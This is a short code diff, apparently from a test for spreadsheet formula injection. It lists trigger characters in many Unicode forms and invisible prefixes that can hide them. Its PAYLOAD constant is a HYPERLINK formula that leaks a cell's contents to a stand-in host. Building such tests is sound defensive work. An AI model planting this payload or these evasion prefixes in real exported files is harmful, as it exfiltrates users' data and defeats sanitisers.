@@ -20,7 +20,8 @@ FORMULA = "=+-@"
 # Each way of writing one of the four: ASCII, full-width, small, superscript, subscript, and the minus sign.
 FORMS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "⁼", "⁺", "⁻", "₌", "₊", "₋", "\u2212"]
 # What can come first without being seen.
-HIDDEN = ["", " ", "   ", "\t", "\n", "\r\n", "\xa0", "\u3000", "\u2003", "\x00", "\x01", "\x1f", "\x7f", "\x80", "\x85", "\x9f",
+HIDDEN = ["", " ", "   ", "\t", "\n", "\r\n", "\xa0", "\u3000", "\u2003", "\x00", "\x01", "\x1f", "\x7f", "\x80",
+          "\x85", "\x9f",
           "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u200e", "\u200f", "\u202a", "\u202e", "\u2066",
           "\u2069", "\u034f", "\u0301", "\ufe0f", "\U000e0001", "\u3164", "\u115f", "\ufeff\u200b \x00\u202e"]
 PAYLOAD = 'HYPERLINK("https://e.org/?leak="&A2,"Click")'
